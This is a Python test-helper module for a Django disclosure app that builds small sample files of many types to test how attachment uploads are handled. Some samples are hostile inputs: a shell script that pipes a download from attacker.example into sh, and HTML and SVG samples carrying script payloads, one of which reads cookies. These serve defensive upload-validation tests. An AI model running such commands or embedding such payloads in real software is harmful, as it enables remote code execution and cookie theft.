"""Small real files of each kind, as bytes, for the attachment tests.

Made here rather than shipped as fixtures: a few bytes with the right structure are all libmagic
needs to recognise a type.
"""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

from django.core.files.uploadedfile import SimpleUploadedFile

from disclosure.models import Attachment, Finding

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
# A 64-bit x86-64 ELF header: what a Linux executable starts with.
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
# A DOS/Windows executable (PE) starts with "MZ".
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 112
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n'
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 20 + b"PK\x05\x06" + b"\x00" * 18
CSV = b"model,eval,score\nfrontier-1,cyber-range,0.31\nfrontier-1,ctf,0.44\n"
TEXT = "Transcript: the model answered step 3 — see line 12.\n".encode()
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def stored_files(root: Path) -> list[Path]:
    """Every file under the private storage root (to prove nothing was left behind)."""
    return sorted(p for p in Path(root).rglob("*") if p.is_file())


def attachment_rows(finding: Finding, n: int, *, by: object) -> list[Attachment]:
    """``n`` rows without files behind them: enough for listing and query budgets."""
    return Attachment.objects.bulk_create(
        Attachment(
            finding=finding,
            file=f"attachments/{finding.pk}/row{i}",
            name=f"evidence-{i}.pdf",
            content_type="application/pdf",
            size=1000 + i,
            sha256=f"{i:064x}",
            uploaded_by=by,
        )
        for i in range(n)
    )
